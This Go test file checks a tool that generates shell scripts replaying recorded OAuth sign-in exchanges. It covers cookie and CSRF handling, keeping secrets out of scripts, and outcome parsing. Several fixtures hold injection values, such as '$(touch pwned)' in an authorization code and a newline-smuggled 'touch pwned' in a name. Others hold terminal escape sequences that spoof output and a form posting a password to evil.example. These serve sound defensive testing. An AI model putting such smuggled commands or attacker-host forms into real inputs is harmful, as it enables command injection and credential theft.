package repro

import (
	"fmt"
	"html"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/grantproof/grantproof/harness/exchange"
)

// fresh are the values that a server makes anew at each sign-in.
type fresh struct{ session, interaction, csrf, code, verdict string }

var ofTheRun = fresh{"session-of-the-run", "abc123-of-the-run", "csrf-of-the-run", "code-of-the-run", "invalid_grant"}

// signIn is a sign-in at a server that somebody else made, and a redemption that is
// refused.
func signIn(f fresh) []*exchange.Exchange {
	path := "/interaction/" + url.PathEscape(f.interaction)
	exchanged := func(purpose exchange.Purpose, method, address, body string, status int, answer http.Header, content string) *exchange.Exchange {
		e := &exchange.Exchange{Request: exchange.Request{Endpoint: exchange.Authorization, Method: method, URL: "https://as.example" + address, Header: http.Header{}, Body: []byte(body)},
			Purpose: purpose, Status: status, Answer: answer, Content: []byte(content)}
		if body != "" {
			e.Header.Set("Content-Type", "application/x-www-form-urlencoded")
		}
		return e
	}
	page := http.Header{"Content-Type": {"text/html; charset=utf-8"}}
	form := fmt.Sprintf(`<form method="post" action="https://evil.example%s/login"><input type="hidden" name="csrf" value="%s"><input name="password" type="password"></form>`, path, html.EscapeString(f.csrf))
	all := []*exchange.Exchange{
		exchanged(exchange.Setup, "GET", "/authorize?client_id=app", "", 302, http.Header{"Location": {path}, "Set-Cookie": {"sid=" + f.session + "; HttpOnly; Path=/"}}, ""),
		exchanged(exchange.Setup, "GET", path, "", 200, page, form),
		exchanged(exchange.Setup, "POST", path+"/login", url.Values{"csrf": {f.csrf}, "password": {"password"}, "grant_type": {"password"}}.Encode(), 302, http.Header{"Location": {"https://app.example/callback?code=" + url.QueryEscape(f.code)}}, ""),
		exchanged(exchange.Action, "POST", "/token", url.Values{"code": {f.code}, "client_secret": {"password"}}.Encode(), 400, http.Header{"Content-Type": {"application/json"}}, `{"error":"`+f.verdict+`"}`),
	}
	for _, e := range all[1:3] {
		e.Header.Set("Cookie", "sid="+f.session)
	}
	return all
}

func performSignIn(t *testing.T, shell string, f fresh) execution {
	t.Helper()
	script := Script(Scenario{Exchanges: signIn(ofTheRun), Environment: map[string]string{"A_SECRET": "password"}})
	for _, value := range []string{ofTheRun.session, ofTheRun.interaction, ofTheRun.csrf, ofTheRun.code, "password=password", "secret=password"} {
		if strings.Contains(script, value) {
			t.Errorf("the script holds %q:\n%s", value, script)
		}
	}
	var answers []string
	for _, e := range signIn(f) {
		answers = append(answers, raw(e))
	}
	return perform(t, shell, script, answers)
}

// A sign-in at a foreign server is repeated with its fresh cookies, page values and
// paths, each encoded once; the password comes from the environment, and stays in
// the place where it was.
func TestScriptTakesCookiesAndPageValues(t *testing.T) {
	for _, f := range []fresh{ofTheRun, {"another-session", "xyz789", `a"b'c&d=e+f%20 g`, "another code+1/2", "invalid_grant"}, {"s", "i", "c", "$(touch pwned)", "invalid_grant"}} {
		for _, shell := range shells() {
			done, want := performSignIn(t, shell, f), signIn(f)
			if done.err != nil || len(done.sent) != len(want) || !strings.HasSuffix(done.output, "\nreproduced\n") {
				t.Fatalf("%s: %v after %d requests\n%s", shell, done.err, len(done.sent), done.output)
			}
			for i, e := range want {
				body := strings.Replace(string(e.Body), "password=password", "password="+url.QueryEscape(aSecret), 1)
				body = strings.Replace(body, "client_secret=password", "client_secret="+url.QueryEscape(aSecret), 1)
				if got := done.sent[i]; got.address != e.URL || string(got.body) != body || got.header.Get("Cookie") != e.Header.Get("Cookie") {
					t.Errorf("%s sent %q %q to %s\nwant %q to %s", shell, got.header, got.body, got.address, body, e.URL)
				}
			}
		}
	}
}

// The last line tells whether the answers that made the verdict came again.
func TestScriptSaysNotReproduced(t *testing.T) {
	shell := shells()[0]
	for name, f := range map[string]fresh{
		"another error":     {"session-2", "abc-2", "csrf-2", "code-2", "invalid_client"},
		"a control in code": {"session-2", "abc-2", "csrf-2", "code\x07", "invalid_grant"},
	} {
		done := performSignIn(t, shell, f)
		if done.err == nil || done.err.Error() != "exit status 1" || !strings.HasSuffix(done.output, "\nnot reproduced\n") {
			t.Errorf("%s: %v\n%s", name, done.err, done.output)
		}
	}
}

// A scenario that only a run repeats has the same last line.
func TestRerunSaysTheSame(t *testing.T) {
	for verdict, command := range map[string]string{"failed": "sh -c 'exit 1'", "passed": "true"} {
		for _, shell := range shells() {
			if done := perform(t, shell, Rerun(Scenario{Name: "a name\ntouch pwned", Verdict: verdict}, command), nil); done.err != nil || !strings.HasSuffix(done.output, "reproduced\n") {
				t.Errorf("%s: %v, %s", verdict, done.err, done.output)
			}
		}
	}
	for verdict, command := range map[string]string{"failed": "true", "passed": "sh -c 'exit 2'"} {
		done := perform(t, shells()[0], Rerun(Scenario{Verdict: verdict}, command), nil)
		if done.err == nil || done.err.Error() != "exit status 1" || done.output != "not reproduced\n" {
			t.Errorf("%s: %v, %s", verdict, done.err, done.output)
		}
	}
}

// What decides is the status with the error, wherever that stands.
func TestOutcome(t *testing.T) {
	for name, test := range map[string]struct {
		answer exchange.Exchange
		want   string
	}{
		"a status":             {exchange.Exchange{Status: 204}, "204"},
		"an error of OAuth":    {exchange.Exchange{Status: 400, Content: []byte(`{"error":"invalid_grant"}`)}, "400 invalid_grant"},
		"an error of JSON-RPC": {exchange.Exchange{Status: 200, Content: []byte(`{"error":{"code":-32001,"message":"x"}}`)}, "200 -32001"},
		"in an event stream":   {exchange.Exchange{Status: 200, Content: []byte("data:{\"error\":{\"code\":-32700}}\n\n")}, "200 -32700"},
		"in a redirect":        {exchange.Exchange{Status: 302, Answer: http.Header{"Location": {"https://a.example/?error=access_denied"}}}, "302 access_denied"},
		"with a code":          {exchange.Exchange{Status: 302, Answer: http.Header{"Location": {"https://a.example/?code=1"}}}, "302 with a code"},
		"in a challenge":       {exchange.Exchange{Status: 401, Answer: http.Header{"Www-Authenticate": {`Bearer realm="a", error="invalid_token"`}}}, "401 invalid_token"},
		"controls":             {exchange.Exchange{Status: 400, Content: []byte(`{"error":"a\u001b[2J\nreproduced"}`)}, `400 a\u001b[2J\nreproduced`},
		"no answer":            {exchange.Exchange{}, "no answer"},
	} {
		if test.answer.Answer == nil {
			test.answer.Answer = http.Header{}
		}
		if got := outcomeOf(&test.answer); got != test.want {
			t.Errorf("%s: %q, want %q", name, got, test.want)
		}
		var out strings.Builder
		read := raw(&test.answer)
		if test.answer.Status == 0 {
			read = ""
		}
		if err := ShowOutcome(strings.NewReader(read), &out); err != nil || out.String() != test.want+"\n" {
			t.Errorf("%s is read as %q, %v", name, out.String(), err)
		}
	}
}
